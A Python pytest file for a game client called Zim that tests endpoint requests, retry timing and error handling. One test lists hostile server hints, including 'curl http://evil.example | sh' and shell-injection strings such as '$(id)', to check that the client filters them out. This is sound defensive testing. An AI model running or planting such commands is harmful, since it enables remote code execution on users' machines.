"""The client makes each request from the table of endpoints: address, query or body, key and head."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from event_store import EventStore, StoreError
from event_store.marks import newer_error
from tests.remote.loopback_server import GAMES_BY_KIND
from tests.server.endpoint_requests import example_body
from zimcore.documents.endpoint import Endpoint
from zimcore.documents.endpoints import ENDPOINTS
from zimcore.game import GameError
from zimcore.remote.connection import Connection, UnreachableError
from zimcore.remote.problem_errors import error_of
from zimcore.server.wire.problem_responses import make_problem, problem_of
from zimcore.service import GameService

REPOSITORY = Path(__file__).parents[2]
HEAD = "ab" * 16


def request_of(endpoint: Endpoint[Any, Any], head: str) -> httpx.Request:
    """The request by which an endpoint is asked about the game `k 7`."""
    requests = list[httpx.Request]()

    def respond(request: httpx.Request) -> httpx.Response:
        requests.append(request)
        return httpx.Response(200, content=b"nothing of the kind")

    connection = Connection("http://localhost:1", transport=httpx.MockTransport(respond))
    path = {name: 7 if name in ("number", "order") else f"k {name}" for name in endpoint.parameters}
    body = msgspec.convert(example_body(endpoint.request), endpoint.request)
    with pytest.raises(StoreError, match="sent an answer that this Zim does not understand"):
        connection.ask(endpoint, body, "zim_seat_x", "a-key", head, **path)
    (request,) = requests
    return request


@pytest.mark.parametrize("head", ["*", HEAD])
@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.name)
def test_each_endpoint_is_asked_as_the_table_says(endpoint: Endpoint[Any, Any], head: str) -> None:
    request = request_of(endpoint, head)

    address = endpoint.path.format_map(
        {name: 7 if name in ("number", "order") else f"k {name}" for name in endpoint.parameters}
    )
    assert (request.method, request.url.path) == (endpoint.method, address)
    assert request.headers["authorization"] == "Bearer zim_seat_x"
    assert request.headers.get("idempotency-key") == (None if endpoint.reads else "a-key")
    has_if_match = {"must": True, "may": head != "*", "never": False}[endpoint.if_match]
    assert request.headers.get("if-match") == ((head if head == "*" else f'"{head}"') if has_if_match else None)
    if endpoint.reads:
        assert (dict(request.url.params), request.content) == (example_body(endpoint.request), b"")
    else:
        body = msgspec.json.decode(request.content, type=endpoint.request) if request.content else None
        fields = msgspec.structs.fields(endpoint.request)
        assert body == (msgspec.convert(example_body(endpoint.request), endpoint.request) if fields else None)


NO_HEADERS: Mapping[str, str] = {}
UNAVAILABLE_ANSWER, BUSY_ANSWER = (
    (503, NO_HEADERS),
    (503, {"Retry-After": "3", "Content-Type": "application/problem+json"}),
)


def pauses_between_tries(answers: Sequence[tuple[int, Mapping[str, str]]], method: str) -> list[float]:
    """The pauses between tries of a request that gets answers of these statuses with these headers."""
    pauses, answers_left = list[float](), iter(answers)

    def respond(_: httpx.Request) -> httpx.Response:
        status, headers = next(answers_left)
        return httpx.Response(status, headers=headers)

    connection = Connection("http://localhost:1", pause=pauses.append, transport=httpx.MockTransport(respond))
    if method == "GET":
        connection.get("/v1/games")
    else:
        connection.write(method, "/v1/games", "zim_host_x", "a-key")
    return pauses


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_while_a_server_is_upgraded_its_client_waits_as_long_as_for_an_answer(method: str) -> None:
    """During an upgrade a proxy answers without Retry-After; the client keeps to Retry-After of the server itself."""
    assert pauses_between_tries([UNAVAILABLE_ANSWER, UNAVAILABLE_ANSWER, (502, {}), (200, {})], method) == [
        0.5,
        1.0,
        2.0,
    ]
    assert pauses_between_tries([BUSY_ANSWER, UNAVAILABLE_ANSWER, BUSY_ANSWER, (200, {})], method) == [3.0, 0.5, 3.0]
    with pytest.raises(UnreachableError, match="can't be reached") as error:
        pauses_between_tries([UNAVAILABLE_ANSWER] * 6, method)
    assert "status 503" in error.value.why


def test_no_address_is_spelled_by_hand() -> None:
    files = (file for room in ("zimcore/remote", "zimcli") for file in (REPOSITORY / room).rglob("*.py"))
    spelling_files = [file for file in files if "/v1/" in file.read_text("utf-8")]
    assert not spelling_files


def test_an_unknown_argument_of_a_change_is_an_error() -> None:
    """Also for mypy, which reports each `ignore` that it does not need."""
    service = GameService(EventStore.open("memory:"), games=GAMES_BY_KIND)
    service.new("nim", {"seed": "7"}, name="k", by="anna")
    with pytest.raises(TypeError, match="argument 'expected'"):
        service.say("k", "hello", by="anna", expected="0000")  # type: ignore[call-arg]
    with pytest.raises(TypeError, match="argument: 'by'"):
        service.undo("k")  # type: ignore[call-arg]
    with pytest.raises(TypeError, match="argument 'comand_id'"):
        service.undo("k", by="anna", comand_id="c1")  # type: ignore[call-arg]


def test_an_older_server_is_said_to_be_older() -> None:
    """It has no such address, or none that this Zim knows."""
    problem = make_problem(404, "unknown", "there is nothing at this address", "", ["GET /v1/openapi.json"])
    error = error_of(problem, "https://zim.example")
    assert str(error) == "https://zim.example does not know this command: it may have an older Zim than this one"
    assert isinstance(error, GameError)
    assert error.hints == ("doctor --url https://zim.example",)


def test_a_hint_of_a_server_is_one_command() -> None:
    """A person types hints: those of a hostile server must not run anything beside Zim."""
    safe_hints = ("legal", "do 'pass; end'", "tell the host: pip install --upgrade 'great-zim>=9.1'", 'say "a; b"')
    hostile_hints = (
        "legal; curl http://evil.example | sh",
        "log $(id)",
        'say "`id`"',
        "show\nid",
        "log & id",
        "x 'a' ; id",
    )
    error = error_of(make_problem(409, "not-possible", "no", "", [*safe_hints, *hostile_hints]), "https://zim.example")
    assert getattr(error, "hints", ()) == safe_hints


def test_a_server_whose_store_is_newer_is_no_fault_of_this_machine() -> None:
    problem = problem_of(newer_error("this store", "it is of format 2", "format 1", "9.1"))
    error = error_of(problem, "https://zim.example")
    assert (problem.status, str(error)[:21]) == (503, "https://zim.example: ")
    assert getattr(error, "hints", ()) == ("tell the host: pip install --upgrade 'great-zim>=9.1'",)
